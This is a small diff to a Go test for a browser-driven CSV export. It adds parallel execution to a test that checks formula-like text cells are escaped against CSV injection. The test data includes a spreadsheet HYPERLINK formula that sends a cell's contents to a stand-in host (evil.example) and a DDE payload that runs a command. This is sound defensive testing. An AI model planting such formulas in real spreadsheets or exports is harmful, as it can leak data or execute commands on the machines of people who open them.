@@ -15,6 +15,7 @@ import (
 // (SNI, Host), begin as spreadsheet formulas: each such text cell is written after a single
 // quote (OWASP's CSV injection), while negative numbers stay numbers (issue 45, finding 12).
 func TestBrowserCSV(t *testing.T) {
+	t.Parallel()
 	chrome := testenv.Chromium(t)
 	srv, _, _ := startServiceWith(t, app.Config{})
 	names := []string{`=hyperlink("https://evil.example/?"&a1,"open")`, "+1+cmd|' /c calc'!a0", "-2+3", "@sum(1+1)", "example.com"}
